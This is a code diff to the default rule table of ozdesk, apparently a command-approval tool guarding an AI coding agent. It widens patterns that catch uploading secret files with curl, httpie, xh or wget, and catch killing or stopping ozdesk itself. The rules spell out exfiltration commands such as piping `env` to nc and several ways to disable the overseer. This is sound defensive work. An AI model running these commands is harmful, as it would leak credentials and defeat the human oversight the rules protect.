@@ -277,10 +277,11 @@ var defaultTable = []DefaultInfo{
 			"`socat … EXEC:`/`SYSTEM:`, `ssh -R` and `RemoteForward`, public tunnels and shared terminals (ngrok, `cloudflared tunnel`, tmate, bore, upterm, " +
 			"sshx, chisel `R:`, frpc), and `python -m http.server` serving a directory outside the workdir. " +
 			"Sending secrets to a host: a `[secret]` file (a credentials path, a directory below the home holding one such as `~/.aws`, " +
-			"a `.env` file; `.env.example` is not one) uploaded by curl (`-F f=@…`, `-d @…`, `--data-binary`, `-T`), " +
+			"a `.env` file; `.env.example` is not one) uploaded by curl (`-F f=@…` however the field is spelled: `f=@FILE;type=…`, `f=@\"FILE\"`, `f=@A,B`, " +
+			"and `f=<FILE`, the file's content as the value; `-d @…`, `--data-binary`, `-T`), by httpie or xh (`f@FILE`, `f=@FILE`, `@FILE`), by `wget --post-file`/`--body-file`, " +
 			"copied to a remote by scp or rsync (`HOST:` after it), fed to a sender (`nc`, `socat`, `openssl s_client`, `ssh`, `mail` …) " +
 			"by `<` or by a pipe, put in a gist, S3, GCS or rclone; and the environment (`env`, `printenv`) or secret keys (`gpg --export-secret-keys`) piped " +
-			"to a sender. Only a certain secret file counts: `curl -d @\"$F\"` and `curl -F f=@build/report.xml` are left alone; `wget --post-file` is not judged (a `wget \"$URL\"` might be that flag, and would ask). " +
+			"to a sender. Only a certain secret file counts: `curl -d @\"$F\"` and `curl -F f=@build/report.xml` are left alone. " +
 			"A secret's value in any word a sender sends ([secret-value]: its URL or host, a header, a body, a user, a cookie, a here-string): " +
 			"a substitution that reads a secrets file or prints the environment or stored credentials (`curl -d \"$(cat ~/.ssh/id_rsa)\"`, " +
 			"`curl \"…?k=$(base64 < ~/.ssh/id)\"`, `nc h 80 <<< \"$(env)\"`), wherever it goes; and a token (a variable named like one, " +
@@ -336,7 +337,9 @@ var defaultTable = []DefaultInfo{
 			// Secrets sent to a host: uploaded, posted, copied or piped out.
 			"curl -F=[secret] **", "curl --form=[secret] **", "curl -d=[secret] **", "curl --data=[secret] **",
 			"curl --data-binary=[secret] **", "curl --data-urlencode=[secret] **", "curl --json=[secret] **",
-			"curl -T=[secret] **", "curl --upload-file=[secret] **",
+			"curl -T=[secret] **", "curl --upload-file=[secret] **", "curl --data-ascii=[secret] **",
+			"wget --post-file=[secret] **", "wget --body-file=[secret] **",
+			"http ** [secret] **", "https ** [secret] **", "xh ** [secret] **", "xhs ** [secret] **",
 			"scp ** [secret] ** *:*", "rsync ** [secret] ** *:*", "sftp ** < [secret]",
 			"[sender] ** < [secret]", "* ** [secret] ** | [sender] **", "* ** [secret] ** | * ** | [sender] **",
 			"* ** | [sender] ** < [secret]",
@@ -402,9 +405,14 @@ var defaultTable = []DefaultInfo{
 			"copying ozdesk's executable by other verbs (`cat` into a file, `dd if=`, `install`, `rsync`, `scp`, `tar`) or building or " +
 			"running it from its source (`go build`/`run`/`install` of a package named ozdesk); `bbolt put`/`surgery` of the store; " +
 			"`git mv` onto a protected path, and an editor given one (`vim -c '%d|wq' .claude/settings.json`); " +
-			"attaching a debugger or a tracer to it (`gdb -p $(pidof ozdesk)`, `perf`, `bpftrace`, `gcore`, `lldb`, `dlv attach`; not yet `strace -p` or `ltrace -p`, which are peeled as runners), or killing what `grep ozdesk` found; " +
-			"stopping or killing ozdesk (`kill $(pidof ozdesk)`, `pgrep ozdesk | xargs kill`, `pkill`/`killall` by a name or a " +
-			"regular expression that matches it, `systemctl stop`, `fuser -k`, every process of a user: `kill -9 -1` ([every-process]: a pid -1 after the signal), `pkill -u`, `killall -u`, `killall5`); " +
+			"attaching a debugger or a tracer to it (`gdb -p $(pidof ozdesk)`, `perf`, `bpftrace`, `gcore`, `lldb`, `dlv attach`; not yet `strace -p` or `ltrace -p`, which are peeled as runners); " +
+			"stopping or killing ozdesk (any signal, SIGSTOP too: `kill $(pidof ozdesk)`, `pkill`/`killall` by a name or a " +
+			"regular expression that matches its name or one of its command lines: `pkill -STOP -f 'hook claude'`; `systemctl stop`, `fuser -k`); " +
+			"a kill of the pids a search of the line found ([ozdesk-kill]: a search naming ozdesk in any case or as an expression, `[o]zdesk`, piped into the kill " +
+			"through any filters, in a substitution of its operands, or in a variable the line set: `ps aux | grep -i OZDESK | awk '{print $2}' | xargs kill`, " +
+			"`for p in $(pgrep ozdesk); do kill $p; done`); every process of a user: `kill -9 -1` ([every-process]: a pid -1 after the signal), " +
+			"`pkill -f ''`, `pkill -u`, `killall -u`, `killall5`, and a kill of the pids of a listing of every process that nothing narrows " +
+			"([kill-all]: `ps -eo pid= | xargs kill -9`, `kill $(pgrep -u $USER)`); " +
 			"a file named ozdesk written where the shell finds programs (`~/.local/bin/ozdesk`, `/usr/local/bin/ozdesk`), which a hook calling ozdesk by name would run; " +
 			"approving through the SSH desk (`ssh -p 2222 HOST queue approve N`); adding an MCP server to Claude Code (`claude mcp add`), which it starts outside any hook; " +
 			"a `kill` of a pid the line does not name is left alone.",
@@ -430,7 +438,7 @@ var defaultTable = []DefaultInfo{
 			// anything), and killing every process of the user.
 			"perf ** [ozdesk] **", "bpftrace ** [ozdesk] **",
 			"gcore ** [ozdesk] **", "lldb ** [ozdesk] **", "dlv attach ** [ozdesk] **", "gdbserver ** [ozdesk] **",
-			"kill ** [every-process] **",
+			"kill ** [every-process] **", "[ozdesk-kill] **", "[kill-all] **",
 			"bbolt put [protected] **", "bbolt surgery ** [protected] **",
 			"* ** > [protected]", "rm ** [protected] **",
 			"chmod ** [protected] **", "chown ** [protected] **", "perl -i ** [protected] **",
